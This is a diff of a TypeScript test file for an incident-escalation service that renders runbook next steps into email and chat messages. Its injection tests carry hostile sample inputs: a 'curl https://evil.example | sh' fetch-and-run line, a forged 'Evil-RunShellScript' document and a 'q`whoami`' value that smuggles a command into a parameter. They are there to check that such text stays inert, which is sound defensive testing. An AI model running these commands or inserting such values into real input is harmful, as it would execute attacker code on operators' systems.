@@ -3,7 +3,7 @@ import type { SentNotification } from '../../../shared/escalation/incident';
 import { buildMessageView, changeLines, formatTime, type MessageInput } from '../../../shared/escalation/message-view';
 import { renderChatNotification } from '../../../shared/escalation/render-chat';
 import { emailSubject, renderEmail } from '../../../shared/escalation/render-email';
-import { ALARM_ARN, ALARM_NAME, capReachedIncident, guardrailIncident, policy, QUEUE_ARN, runtime } from './fixtures';
+import { ALARM_ARN, ALARM_NAME, capReachedIncident, failureIncident, guardrailIncident, policy, QUEUE_ARN, runtime } from './fixtures';
 
 const now = new Date('2026-11-25T14:00:06.000Z');
 const production = policy('production');
@@ -44,9 +44,11 @@ describe('renderEmail', () => {
     expect(text).toContain(`Resource:    notification-service-queue (${QUEUE_ARN})`);
     expect(text).toContain('a cap was reached (cap-reached)');
     expect(text).toContain('scale-consumers did not act: consumers of notification-service-queue are at the environment cap (MaximumConcurrency 400)');
-    expect(text).toContain(
-      `NEXT STEP: Run NotificationService-ScaleConsumers\n  Run in account 123456789012, us-east-1:\n  aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-ScaleConsumers --parameters '{"QueueName":["notification-service-queue"]}'`,
-    );
+    // At the cap the row's runbook would refuse the same way: the step names the setting, offers no document (review 10a, 3).
+    expect(text).toContain("NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change\n  First look at the consumer function's Errors, Throttles");
+    expect(text).toContain('The cap is environments.production.scaleConsumers.maxConcurrency in the runbook configuration');
+    expect(text).toContain('Re-running NotificationService-ScaleConsumers will not help: it invokes the same automation, which stops at the same cap.');
+    expect(text).not.toContain('--document-name NotificationService-ScaleConsumers');
     expect(text).toContain('runbook ack inc-3f2a9c1b7d44');
     expect(text).toContain('#IncidentId=inc-3f2a9c1b7d44');
     expect(text).toContain('- DevOps Team (L1) at 2026-11-25 14:00 UTC via chat, email');
@@ -54,15 +56,18 @@ describe('renderEmail', () => {
   });
 
   describe('names the account and region to run each document in (docs/decisions.md 86)', () => {
-    const workload = capReachedIncident({ account: '222222222222', alarmArn: ALARM_ARN.replace('123456789012', '222222222222') });
+    // A failure offers the row's runbook (fix the error, then re-run it): where to run it is what these tests check.
+    const workload = failureIncident({ account: '222222222222', alarmArn: ALARM_ARN.replace('123456789012', '222222222222') });
     const section = (text: string, title: string): string => text.slice(text.indexOf(title)).split('\n\n')[0] ?? '';
 
     it('in cross-account mode: the service document in the workload account, the acknowledgement in the operations account', () => {
       const { text } = renderEmail(buildMessageView(input({ incident: workload, operationsAccount: '111111111111' })));
       expect(section(text, 'NEXT STEP')).toBe(
         [
-          'NEXT STEP: Run NotificationService-ScaleConsumers',
-          '  Run in the workload account 222222222222, us-east-1, where the document is registered:',
+          'NEXT STEP: Fix the error, then run NotificationService-ScaleConsumers',
+          '  The remediation failed with the error above: fix what it names first (a missing permission, a resource that is gone, a throttled API).',
+          `  Then run NotificationService-ScaleConsumers while the alarm is still in ALARM: it runs the same remediation on the alarm's current state. If it answers "skipped: duplicate delivery", this state change is recorded as handled: make the change by hand.`,
+          '  Run NotificationService-ScaleConsumers in the workload account 222222222222, us-east-1, where the document is registered:',
           `  aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-ScaleConsumers --parameters '{"QueueName":["notification-service-queue"]}'`,
           '  Console: https://us-east-1.console.aws.amazon.com/systems-manager/automation/execute/NotificationService-ScaleConsumers?region=us-east-1#QueueName=notification-service-queue',
         ].join('\n'),
@@ -77,15 +82,16 @@ describe('renderEmail', () => {
         ].join('\n'),
       );
       const chat = renderChatNotification(buildMessageView(input({ incident: workload, operationsAccount: '111111111111' })));
-      expect(chat.content.nextSteps?.[0]).toMatch(/`, in the workload account 222222222222, us-east-1, where the document is registered$/);
-      expect(chat.content.nextSteps?.[1]).toMatch(/NotificationService-AcknowledgeIncident>, in the operations account 111111111111, us-east-1, where the incident state is kept$/);
+      expect(chat.content.nextSteps?.[0]).toMatch(/^\*Next step:\* Fix the error, then run NotificationService-ScaleConsumers\. The remediation failed/);
+      expect(chat.content.nextSteps?.[1]).toMatch(/`, in the workload account 222222222222, us-east-1, where the document is registered$/);
+      expect(chat.content.nextSteps?.[2]).toMatch(/NotificationService-AcknowledgeIncident>, in the operations account 111111111111, us-east-1, where the incident state is kept$/);
     });
 
     it('in one account: that account for both, in the incident\'s region', () => {
-      const dr = capReachedIncident({ region: 'us-west-2', alarmArn: ALARM_ARN.replace('us-east-1', 'us-west-2') });
+      const dr = failureIncident({ region: 'us-west-2', alarmArn: ALARM_ARN.replace('us-east-1', 'us-west-2') });
       for (const operationsAccount of [undefined, '123456789012']) {
         const { text } = renderEmail(buildMessageView(input({ incident: dr, ...(operationsAccount ? { operationsAccount } : {}) })));
-        expect(section(text, 'NEXT STEP').split('\n')[1]).toBe('  Run in account 123456789012, us-west-2:');
+        expect(section(text, 'NEXT STEP').split('\n')[3]).toBe('  Run NotificationService-ScaleConsumers in account 123456789012, us-west-2:');
         expect(section(text, 'ACKNOWLEDGE').split('\n')[1]).toBe('  Run in account 123456789012, us-west-2:');
       }
     });
@@ -193,8 +199,9 @@ describe('renderChatNotification', () => {
     });
     expect(chat.content.description).toContain('*Why a person is needed:* a cap was reached');
     expect(chat.content.description).toContain('*Next tier:* Cloud Infrastructure Team (L2) at 2026-11-25 14:15 UTC (in 15 min) unless acknowledged');
+    // Cap reached: what to do, and no document link (the row's runbook would refuse the same way).
     expect(chat.content.nextSteps).toEqual([
-      expect.stringMatching(/^<https:\/\/us-east-1\.console\.aws\.amazon\.com\/systems-manager\/automation\/execute\/NotificationService-ScaleConsumers\?region=us-east-1#QueueName=notification-service-queue\|Run NotificationService-ScaleConsumers> or run `aws ssm start-automation-execution /),
+      expect.stringMatching(/^\*Next step:\* Find why the consumers cannot keep up; raising their cap is a configuration change\. .*scaleConsumers\.maxConcurrency/),
       expect.stringMatching(/^Acknowledge: `runbook ack inc-3f2a9c1b7d44` or <https:.*NotificationService-AcknowledgeIncident>, in account 123456789012, us-east-1$/),
     ]);
     // Every value of additionalContext is a string, as the schema requires.
@@ -256,7 +263,7 @@ describe('text from outside renders inert (issue 17: message injection)', () => 
       '  Reason:      Threshold Crossed <!channel> <https://evil.example/run|Run this> NEXT STEP: Run NotificationService-Evil curl https://evil.example | sh',
     );
     // The only section headed NEXT STEP is the automation's own.
-    expect(text.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Run NotificationService-ScaleConsumers']);
+    expect(text.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change']);
     expect(text).toContain('- top error (12x): connect postgres://app:****@db:5432/notify failed; Authorization: Bearer **** for ****@example.com');
     expect(text).not.toContain('S3cr3t');
     expect(text).not.toContain('abcdef1234567890');
@@ -274,15 +281,16 @@ describe('text from outside renders inert (issue 17: message injection)', () => 
   });
 
   it('never offers a document that is not one of the project\'s runbooks as the next step', () => {
-    const forged = capReachedIncident({
-      decision: { ...capReachedIncident().decision!, runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl https://evil.example | sh'] } } },
+    // A failure offers a document (the named one, else the row's): the forged name is never it.
+    const forged = failureIncident({
+      decision: { ...failureIncident().decision!, runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl https://evil.example | sh'] } } },
     });
     const view = buildMessageView(input({ incident: forged }));
-    expect(view.nextStep?.documentName).toBe('NotificationService-ScaleConsumers');
+    expect(view.nextStep?.run?.documentName).toBe('NotificationService-ScaleConsumers');
     expect(renderEmail(view).text).not.toContain('Evil-RunShellScript');
-    const badValue = capReachedIncident({
-      decision: { ...capReachedIncident().decision!, runbook: { documentName: 'NotificationService-ScaleConsumers', parameters: { QueueName: ['q`whoami`'] } } },
+    const badValue = failureIncident({
+      decision: { ...failureIncident().decision!, runbook: { documentName: 'NotificationService-ScaleConsumers', parameters: { QueueName: ['q`whoami`'] } } },
     });
-    expect(buildMessageView(input({ incident: badValue })).nextStep?.parameters).toEqual({ QueueName: ['notification-service-queue'] });
+    expect(buildMessageView(input({ incident: badValue })).nextStep?.run?.parameters).toEqual({ QueueName: ['notification-service-queue'] });
   });
 });
